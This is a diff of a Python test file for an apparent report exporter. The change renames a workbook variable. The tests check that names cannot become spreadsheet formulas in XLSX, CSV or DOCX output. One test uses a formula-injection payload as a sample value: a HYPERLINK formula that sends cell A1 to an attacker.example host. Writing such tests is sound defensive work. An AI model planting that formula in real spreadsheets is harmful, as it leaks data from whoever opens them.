@@ -67,8 +67,8 @@ def report_of(names: list[str]) -> Report:
 @settings(max_examples=60, deadline=None)
 @given(st.lists(any_text, min_size=1, max_size=4))
 def test_no_text_becomes_a_formula_in_xlsx(names: list[str]) -> None:
-    book = load_workbook(io.BytesIO(to_xlsx(report_of(names))))
-    sheet = book["月通报"]
+    workbook = load_workbook(io.BytesIO(to_xlsx(report_of(names))))
+    sheet = workbook["月通报"]
     cells = [row[0] for row in sheet.iter_rows(min_row=6, max_row=5 + len(names))]
     for cell, name in zip(cells, names, strict=True):
         assert cell.data_type != "f", f"{name!r} was written as a formula"
@@ -94,18 +94,18 @@ def test_no_csv_cell_starts_like_a_formula(names: list[str]) -> None:
 def test_a_formula_in_a_name_is_text_in_every_format() -> None:
     name = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
     report = report_of([name, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "市商务局"])
-    book = load_workbook(io.BytesIO(to_xlsx(report)))
-    values = [c.value for c in book["月通报"]["A"]]
+    workbook = load_workbook(io.BytesIO(to_xlsx(report)))
+    values = [c.value for c in workbook["月通报"]["A"]]
     assert name in values
-    assert all(c.data_type != "f" for row in book["月通报"].iter_rows() for c in row)
+    assert all(c.data_type != "f" for row in workbook["月通报"].iter_rows() for c in row)
     written = to_csv(report.sheets[0].tables[0]).decode("utf-8-sig")
     assert ["'" + name, "0", "0.5"] in list(csv.reader(io.StringIO(written, newline="")))
     assert name in "\n".join(c.text for t in Document(io.BytesIO(to_docx(report))).tables for c in t._cells)
 
 
 def test_numbers_rates_marks_and_print_setup() -> None:
-    book = load_workbook(io.BytesIO(to_xlsx(report_of(["市商务局", "市公安局"]))))
-    sheet = book["月通报"]
+    workbook = load_workbook(io.BytesIO(to_xlsx(report_of(["市商务局", "市公安局"]))))
+    sheet = workbook["月通报"]
     assert sheet["A1"].value == "关于测试计划2024年9月推进情况的通报"
     assert sheet["A2"].value.startswith("期间：2024年9月")
     assert sheet["B6"].value == 0
